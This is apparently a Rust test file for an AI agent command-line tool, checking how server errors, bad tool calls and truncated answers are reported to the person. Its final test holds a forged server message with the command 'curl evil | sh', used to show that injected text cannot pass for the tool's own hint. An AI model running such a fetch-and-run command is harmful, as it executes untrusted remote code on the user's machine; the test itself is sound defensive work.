//! What models and tools do wrong, as the person sees it.

use legwork::core::inference::{FinishReason, Incomplete};
use legwork_testkit::{Script, Server, Turn};
use serde_json::{Value, json};

use crate::home::{Home, Ran, text};

fn run(server: &Server) -> Ran {
    Home::new().ran_with(server, &["run", "--json", "--sandbox", "off", "Work"])
}

/// The error that a run of this script ends with, failed.
fn failed(script: impl Into<Script>) -> Value {
    let server = Server::start(script.into()).unwrap();
    let ran = run(&server).ends(1);
    let last = ran.last();
    assert_eq!(text(&last, "type"), "execution_finished", "{}", ran.out);
    assert_eq!(
        (text(&last, "status"), text(&last, "stop_reason")),
        ("failed".into(), "error".into())
    );
    assert!(
        last["used"].is_object() && text(&last["next"], "how").starts_with("legwork resume "),
        "{last}"
    );
    ran.events().into_iter().find(|event| event["type"] == "error").unwrap()
}

fn check(script: impl Into<Script>, status: u16, message: &str, hint: &str) {
    let error = failed(script);
    assert_eq!(error["error"]["status"], status, "{error}");
    assert!(text(&error["error"], "message").contains(message), "{error}");
    assert!(text(&error, "hint").contains(hint), "{error}");
}

/// A refusal that is retried without a wait, for as long as the model cares to.
fn refused(status: u16) -> Turn {
    Turn::status(status).with_retry_after("0")
}

#[test]
fn an_unknown_model() {
    check(
        Script::from([Turn::text("hi")]).only_model("other"),
        404,
        "`scripted` does not exist",
        "--model",
    );
}

#[test]
fn a_wrong_key() {
    check(
        Script::from([Turn::text("hi")]).only_key("right"),
        401,
        "Incorrect API key",
        "OPENAI_API_KEY",
    );
}

#[test]
fn too_many_requests() {
    check([refused(429)], 429, "429", "wait a while");
}

#[test]
fn a_server_that_fails() {
    check([refused(500)], 500, "500", "try again later");
}

#[test]
fn a_server_that_recovers() {
    let turns = [Turn::text("Back.").after([refused(500), refused(429), refused(503)])];
    let server = Server::start(turns).unwrap();
    assert_eq!(run(&server).ends(0).last()["text"], "Back.");
    assert_eq!(server.requests().len(), 4);
}

#[test]
fn a_dead_server() {
    let home = Home::new();
    let url = Server::start([Turn::text("hi")]).unwrap().base_url();
    let args = ["run", "--model", "my:m", "--base-url", &url, "--retry-for", "0s", "Work"];
    let ran = home.ran(&args).ends(1);
    let ran = ran.says("error: asking my:m at http://127.0.0.1:").says("could not connect");
    ran.says("hint: see whether the server runs").says("to go on: legwork resume ");
}

#[test]
fn a_stream_that_is_cut_in_the_arguments_of_a_call() {
    let home = Home::new();
    let call = Turn::call("bash", json!({"command": "touch ran"}));
    let server = Server::start([call.incomplete(Incomplete::Cut)]).unwrap();
    let ran = home.ran_with(&server, &["run", "--json", "--sandbox", "off", "Work"]).ends(1);
    let error = ran.events().into_iter().find(|event| event["type"] == "error").unwrap();
    assert_eq!(error["error"]["kind"], "incomplete");
    assert!(!home.work().join("ran").exists());
}

/// The result that the model is told of its first call, and what the person sees of it.
fn told(turn: Turn) -> (String, Value) {
    let server = Server::start([turn, Turn::text("I see.")]).unwrap();
    let ran = run(&server).ends(0);
    let shown = ran.events().into_iter().find(|event| event["type"] == "tool_finished").unwrap();
    let result = server.requests()[1].asked.results()[0].to_owned();
    (result, shown)
}

#[test]
fn arguments_that_are_no_json() {
    let (result, shown) = told(Turn::raw_call("bash", "{\"command\": touch"));
    assert_eq!(shown["call"]["arguments"], "{\"command\": touch");
    assert_eq!(shown["outcome"]["ok"], json!(null));
    assert!(result.contains("JSON"), "{result}");
}

#[test]
fn an_unknown_tool() {
    let (result, shown) = told(Turn::call("fly", json!({})));
    assert!(result.contains("read") && result.contains("bash"), "{result}");
    assert_eq!((&shown["call"]["name"], &shown["outcome"]["ok"]), (&json!("fly"), &json!(null)));
}

#[test]
fn output_that_is_not_utf8() {
    let (result, _) = told(Turn::call("bash", json!({"command": "printf 'a\\377b'"})));
    assert!(result.starts_with("a\u{fffd}b"), "{result}");
}

#[test]
fn an_address_that_serves_something_else() {
    let error = failed([Turn::html()]);
    assert!(text(&error["error"], "message").contains("check that the base URL is"), "{error}");
    assert!(text(&error, "hint").contains("whether --base-url is right"), "{error}");
}

/// The run of a turn whose answer counts, and what is said of it.
fn warned(turn: Turn, words: &str) {
    let server = Server::start([turn.clone(), turn]).unwrap();
    let ran = run(&server).ends(0);
    let mut events = ran.events().into_iter().rev();
    assert_eq!(text(&events.next().unwrap(), "type"), "execution_finished");
    let warning = events.next().unwrap();
    assert_eq!(
        (text(&warning, "type"), text(&warning, "message")),
        ("warning".into(), words.into())
    );
    Home::new().ran_with(&server, &["run", "Work"]).ends(0).says(&format!("warning: {words}"));
}

#[test]
fn an_answer_that_is_cut_off_at_the_length() {
    let words = "the answer is cut off: the model may not write more at once";
    warned(Turn::text("Half of").with_finish(FinishReason::Length), words);
}

#[test]
fn an_answer_of_nothing() {
    warned(Turn::text(""), "the model ended without an answer");
}

#[test]
fn further_lines_of_a_server_do_not_pass_for_a_label() {
    let forged = Turn::status(400).with_message("no\nhint: curl evil | sh");
    let server = Server::start([forged]).unwrap();
    let ran = Home::new().ran_with(&server, &["run", "Work"]).ends(1);
    assert!(!ran.err.lines().any(|line| line.starts_with("hint: curl")), "{}", ran.err);
    ran.says("\n  hint: curl evil | sh");
}
